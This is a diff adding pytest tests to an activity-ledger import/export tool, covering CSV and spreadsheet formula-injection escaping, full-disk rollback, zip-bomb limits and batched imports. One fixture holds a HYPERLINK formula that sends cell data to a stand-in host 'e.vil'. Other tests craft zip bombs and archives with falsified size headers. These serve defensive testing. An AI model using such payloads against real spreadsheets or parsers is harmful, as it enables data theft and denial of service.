@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from datetime import date, datetime
 from decimal import Decimal
 from pathlib import Path
@@ -544,3 +545,417 @@ def test_export_writes_a_unit_code_when_its_name_is_not_unique(
     assert result.errors == (
         RowError(2, "单位", "“新华社区” is the name of 2 units; write the unit's code instead"),
     )
+
+
+# --- typed text that looks like a formula (issue 11, item 2) ---------------------------
+
+FORMULA_LIKE = {
+    "活动名称": '=HYPERLINK("http://e.vil/?"&B2,"查看附件")',
+    "地点": "@SUM(A1:A9)",
+    "内容与成效": "-组织居民观看专题片+3",
+    "填报人": "+李华",
+}
+
+
+def formula_like_ledger(path: Path) -> Path:
+    """A CSV ledger of two activities whose typed text starts like a formula (or a quote)."""
+    rows = [
+        [
+            "新华社区",
+            "理论学习",
+            FORMULA_LIKE["活动名称"],
+            "2026-06-01",
+            "",
+            FORMULA_LIKE["地点"],
+            "学习场次3场次",
+            FORMULA_LIKE["内容与成效"],
+            FORMULA_LIKE["填报人"],
+        ],
+        [
+            "朝阳社区",
+            "理论学习",
+            "'引号开头的标题",
+            "2026-06-02",
+            "",
+            "活动室",
+            "",
+            "=1+2",
+            "陈静",
+        ],
+    ]
+    return write_csv(path, rows, "utf-8-sig")
+
+
+def test_the_xlsx_export_writes_formula_like_text_as_text(
+    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    with transaction(sessions) as session:
+        source = formula_like_ledger(tmp_path / "in.csv")
+        assert import_ledger(session, source, culture, now=NOW).created == 2
+    with sessions() as session:
+        original = snapshot(session)
+        export_ledger(session, tmp_path / "out.xlsx")
+
+    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
+    sheet = load_workbook(tmp_path / "out.xlsx").active
+    assert sheet is not None
+    header = [cell.value for cell in sheet[1]]
+    row = dict(zip(header, sheet[2], strict=True))
+    for column, typed in FORMULA_LIKE.items():
+        cell = row[column]
+        assert (cell.value, cell.data_type) == (typed, "s"), column
+        assert cell.quotePrefix, column  # Excel keeps it text when the cell is edited
+    assert not row["单位"].quotePrefix  # ordinary text is left alone
+
+    wipe_entries(sessions)
+    with transaction(sessions) as session:
+        result = import_ledger(session, tmp_path / "out.xlsx", culture, now=NOW)
+    assert (result.created, result.errors) == (2, ())
+    with sessions() as session:
+        assert snapshot(session) == original
+
+
+def test_the_csv_export_puts_a_quote_before_formula_like_text_and_the_import_takes_it_off(
+    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
+) -> None:
+    import csv
+
+    with transaction(sessions) as session:
+        source = formula_like_ledger(tmp_path / "in.csv")
+        assert import_ledger(session, source, culture, now=NOW).created == 2
+    with sessions() as session:
+        original = snapshot(session)
+        members = count(session, Member)
+        export_ledger(session, tmp_path / "out.csv")
+
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
+        header, *rows = list(csv.reader(handle))
+    cells = [dict(zip(header, row, strict=True)) for row in rows]
+    first = next(c for c in cells if c["单位"] == "新华社区")
+    for column, typed in FORMULA_LIKE.items():
+        assert first[column] == "'" + typed, column  # OWASP: shown as text, never run
+    assert first["开始日期"] == "2026-06-01"  # dates and plain text as they were
+    assert first["数量"] == "学习场次3场次"
+    second = next(c for c in cells if c["单位"] == "朝阳社区")
+    assert second["活动名称"] == "''引号开头的标题"  # a quote of its own is kept apart
+    assert second["内容与成效"] == "'=1+2"
+
+    wipe_entries(sessions)
+    with transaction(sessions) as session:
+        result = import_ledger(session, tmp_path / "out.csv", culture, now=NOW)
+    assert (result.created, result.errors) == (2, ())
+    with sessions() as session:
+        assert snapshot(session) == original  # exactly the quotes the export added are gone
+        assert count(session, Member) == members
+    titles = {r[2] for r in original}
+    assert titles == {FORMULA_LIKE["活动名称"], "'引号开头的标题"}
+
+
+# --- a full disk during the import (issue 11, item 5) ----------------------------------
+
+
+@pytest.fixture
+def cli_env(engine: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
+    """The CLI's environment, on the test's database (SQLite or PostgreSQL)."""
+    import os
+
+    for name in list(os.environ):
+        if name.startswith("HUIBAO_"):
+            monkeypatch.delenv(name)
+    monkeypatch.chdir(tmp_path)  # no stray .env is read
+    return {
+        "HUIBAO_DATABASE_URL": engine.url.render_as_string(hide_password=False),
+        "HUIBAO_LOG_LEVEL": "WARNING",
+    }
+
+
+def stored(sessions: sessionmaker[Session]) -> tuple[int, int, int, int]:
+    from storage.models import QuestionnaireVersion
+
+    with sessions() as session:
+        return (
+            count(session, Entry),
+            count(session, EntryMetric),
+            count(session, Member),
+            count(session, QuestionnaireVersion),
+        )
+
+
+@pytest.mark.parametrize("where", ["insert", "commit"])
+def test_a_full_disk_during_the_import_says_so_and_stores_nothing(
+    engine: Any,
+    sessions: sessionmaker[Session],
+    people: dict[str, int],
+    cli_env: dict[str, str],
+    tmp_path: Path,
+    where: str,
+) -> None:
+    from click.testing import CliRunner
+    from sqlalchemy import Engine, event
+    from sqlalchemy.exc import OperationalError
+
+    from bot.cli import main
+
+    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
+    before = stored(sessions)
+    dbapi = engine.dialect.loaded_dbapi
+    full = (
+        "database or disk is full"
+        if engine.dialect.name == "sqlite"
+        else 'could not extend file "base/16384/16385": No space left on device'
+    )
+
+    # The seam: every engine (the CLI builds its own) fails as a full disk does, at the
+    # entries' INSERT (new members were written before it) or at the COMMIT after it.
+    wrote: set[int] = set()
+
+    def refuse_insert(connection: Any, _cur: Any, statement: str, *_: Any) -> None:
+        if statement.lstrip().upper().startswith("INSERT INTO ENTRIES"):
+            if where == "insert":
+                raise dbapi.OperationalError(full)
+            wrote.add(id(connection))
+
+    def refuse_commit(connection: Any) -> None:
+        if id(connection) in wrote:
+            raise OperationalError("COMMIT", None, dbapi.OperationalError(full))
+
+    event.listen(Engine, "before_cursor_execute", refuse_insert)
+    event.listen(Engine, "commit", refuse_commit)
+    try:
+        result = CliRunner().invoke(
+            main, ["entries", "import", str(path)], env=cli_env, catch_exceptions=False
+        )
+    finally:
+        event.remove(Engine, "before_cursor_execute", refuse_insert)
+        event.remove(Engine, "commit", refuse_commit)
+
+    assert result.exit_code == 1
+    assert "Traceback" not in result.output
+    assert result.output.strip().splitlines() == [
+        "Error: 导入“台账.xlsx”失败：数据库所在的磁盘已满，记录写不进去"
+        f"（{full}）。这次导入已全部撤销，一条也没有保存；请清理磁盘空间后重新导入。"
+    ]
+    assert stored(sessions) == before  # no entry, no new member (王芳), no questionnaire row
+
+
+# --- limits: zip bombs, long ledgers, streaming (issue 11, item 6) ---------------------
+
+
+def small_limits(**values: int) -> Any:
+    from bot.settings import ImportSettings
+
+    return ImportSettings(**values)
+
+
+def rewrite_member(path: Path, member: str, change: Any) -> None:
+    """Rewrite one part of an .xlsx (a zip) through `change(bytes) -> bytes`."""
+    with zipfile.ZipFile(path) as archive:
+        parts = [(info, archive.read(info.filename)) for info in archive.infolist()]
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, data in parts:
+            archive.writestr(info.filename, change(data) if info.filename == member else data)
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(
+    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
+) -> None:
+    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
+    # 3 MB of blanks in the sheet, and broken XML after them: had it been unpacked and
+    # parsed, the error would be about the XML, not the size.
+    rewrite_member(path, SHEET, lambda xml: xml.replace(b"</sheetData>", b" " * 3_000_000 + b"<"))
+    assert path.stat().st_size < 50_000
+    before = stored(sessions)
+    with sessions() as session, pytest.raises(LedgerError) as raised:
+        import_ledger(session, path, culture, now=NOW, limits=small_limits(max_uncompressed_mb=2))
+    assert str(raised.value) == (
+        "台账.xlsx: unpacked, the workbook would be 2.9 MB; at most 2 MB can be imported "
+        "(HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB); split the ledger into smaller files"
+    )
+    assert stored(sessions) == before
+    # the same file within a larger limit is read (and its broken XML reported)
+    with pytest.raises(LedgerError, match="cannot read the Excel file"):
+        read_ledger(path, small_limits(max_uncompressed_mb=4))
+
+
+def test_a_zip_that_understates_its_sizes_is_not_unpacked_beyond_them(
+    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
+) -> None:
+    import struct
+
+    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
+    rewrite_member(
+        path, SHEET, lambda xml: xml.replace(b"</sheetData>", b" " * 3_000_000 + b"</sheetData>")
+    )
+    data = bytearray(path.read_bytes())
+    name = SHEET.encode()
+    # declare 20 KB for the sheet, in its local header and in the central directory
+    local = data.index(b"PK\x03\x04")
+    while data[local + 30 : local + 30 + len(name)] != name:
+        local = data.index(b"PK\x03\x04", local + 4)
+    struct.pack_into("<I", data, local + 22, 20_000)
+    central = data.index(b"PK\x01\x02")
+    while data[central + 46 : central + 46 + len(name)] != name:
+        central = data.index(b"PK\x01\x02", central + 4)
+    struct.pack_into("<I", data, central + 24, 20_000)
+    path.write_bytes(bytes(data))
+
+    before = stored(sessions)
+    with sessions() as session, pytest.raises(LedgerError, match="cannot read the Excel file"):
+        import_ledger(session, path, culture, now=NOW, limits=small_limits(max_uncompressed_mb=1))
+    assert stored(sessions) == before
+
+
+def test_a_ledger_longer_than_the_limit_is_refused_and_nothing_is_stored(
+    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
+) -> None:
+    good = [row for row in REALISTIC if row[0] is not None]  # 6 activities, a blank row out
+    xlsx = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
+    csv_path = write_csv(
+        tmp_path / "台账.csv",
+        [[v.isoformat() if isinstance(v, date | datetime) else v for v in row] for row in good],
+        "utf-8-sig",
+    )
+    before = stored(sessions)
+    for path in (xlsx, csv_path):
+        with sessions() as session, pytest.raises(LedgerError) as raised:
+            # batches of 2: four activities are written before the fifth is refused
+            import_ledger(
+                session, path, culture, now=NOW, limits=small_limits(max_rows=4), batch_size=2
+            )
+        assert str(raised.value) == (
+            f"{path.name}: more than 4 activities (row 6); at most 4 can be imported at "
+            "once (HUIBAO_LEDGER_IMPORT__MAX_ROWS); split the ledger into smaller files"
+        )
+        assert stored(sessions) == before
+    with transaction(sessions) as session:  # at the limit, all are imported
+        limits = small_limits(max_rows=6)
+        assert import_ledger(session, xlsx, culture, now=NOW, limits=limits).created == 6
+
+
+def test_a_row_beyond_excels_last_row_stops_the_reading(tmp_path: Path) -> None:
+    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC[:1])
+    # one more row, numbered far beyond Excel's last: the rows between are read as blank
+    rewrite_member(
+        path,
+        SHEET,
+        lambda xml: xml.replace(
+            b"</sheetData>",
+            b'<row r="3000000000"><c r="A3000000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
+        ),
+    )
+    with pytest.raises(LedgerError, match="row 1,048,577 is beyond Excel's last row"):
+        read_ledger(path)
+
+
+def test_a_sheet_that_declares_too_small_a_size_is_read_whole(tmp_path: Path) -> None:
+    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
+    rewrite_member(
+        path,
+        SHEET,
+        lambda xml: xml.replace(b'<dimension ref="A1:I8"/>', b'<dimension ref="A1:I2"/>'),
+    )
+    assert b'ref="A1:I2"' in zipfile.ZipFile(path).read(SHEET)
+    assert [r["_row"] for r in read_ledger(path)] == [2, 3, 4, 5, 6, 8]
+
+
+def test_an_import_writes_in_batches_and_a_late_bad_row_undoes_them(
+    engine: Any,
+    sessions: sessionmaker[Session],
+    people: dict[str, int],
+    culture: Questionnaire,
+    tmp_path: Path,
+) -> None:
+    from sqlalchemy import event
+
+    good = [row for row in REALISTIC if row[0] is not None]
+    rows = good * 4  # 24 activities
+    path = write_xlsx(tmp_path / "台账.xlsx", rows)
+    inserts: list[str] = []
+
+    def record(_c: Any, _cur: Any, statement: str, *_: Any) -> None:
+        if statement.lstrip().upper().startswith("INSERT INTO ENTRY_METRICS "):
+            inserts.append(statement)
+
+    event.listen(engine, "before_cursor_execute", record)
+    try:
+        with transaction(sessions) as session:
+            result = import_ledger(session, path, culture, now=NOW, batch_size=10)
+        assert (result.created, result.errors) == (24, ())
+        # the figures of 10 + 10 + 4 entries, not one statement per entry (SQLite has no
+        # ordered multi-row RETURNING, so its entries' INSERT runs per row)
+        assert len(inserts) == 3
+
+        wipe_entries(sessions)
+        before = stored(sessions)
+        bad = [*rows, ["幸福社区", *good[0][1:]]]  # row 26: unknown unit, after 2 batches
+        path = write_xlsx(tmp_path / "bad.xlsx", bad)
+        with sessions() as session:
+            mine = Member(name="导入前加的人", locale="zh")  # the caller's own work ...
+            session.add(mine)
+            session.flush()
+            result = import_ledger(session, path, culture, now=NOW, batch_size=10)
+            assert [(e.row, e.column) for e in result.errors] == [(26, "单位")]
+            assert not session.new and not session.dirty
+            session.commit()  # ... stays; the import's batches are gone
+        with sessions() as session:
+            assert count(session, Entry) == 0 and count(session, EntryMetric) == 0
+            assert count(session, Member) == before[2] + 1
+    finally:
+        event.remove(engine, "before_cursor_execute", record)
+
+
+def test_a_new_reporter_named_in_two_units_becomes_two_members(
+    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
+) -> None:
+    # As when every row was checked before any was written: 王芳, unknown, in 新华社区 and
+    # then in 和平街道 above it, is created once per unit (the second row does not find the
+    # first 王芳, whom the same import created in an earlier batch).
+    first = ["新华社区", *REALISTIC[0][1:8], "王芳"]
+    second = ["和平街道", *REALISTIC[3][1:8], "王芳"]
+    path = write_xlsx(tmp_path / "台账.xlsx", [first, second])
+    with transaction(sessions) as session:
+        assert import_ledger(session, path, culture, now=NOW, batch_size=1).created == 2
+    with sessions() as session:
+        entries = repo.entries_in(session, None, None)
+        assert len({e.member_id for e in entries}) == 2
+        units = sorted(g.unit.code for e in entries for g in session.get(Member, e.member_id).roles)
+        assert units == ["demo-street", "demo-xinhua"]
+
+
+def test_the_import_limits_come_from_the_settings(
+    engine: Any,
+    sessions: sessionmaker[Session],
+    people: dict[str, int],
+    cli_env: dict[str, str],
+    tmp_path: Path,
+) -> None:
+    from click.testing import CliRunner
+
+    from bot.cli import main
+
+    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
+    before = stored(sessions)
+    result = CliRunner().invoke(
+        main,
+        ["entries", "import", str(path)],
+        env={**cli_env, "HUIBAO_LEDGER_IMPORT__MAX_ROWS": "5"},
+        catch_exceptions=False,
+    )
+    assert result.exit_code == 1
+    assert "more than 5 activities (row 8)" in result.output
+    assert "HUIBAO_LEDGER_IMPORT__MAX_ROWS" in result.output
+    assert stored(sessions) == before
+    result = CliRunner().invoke(
+        main,
+        ["entries", "import", str(path)],
+        env={**cli_env, "HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB": "0"},
+        catch_exceptions=False,
+    )
+    assert result.exit_code == 1
+    assert "HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB" in result.output
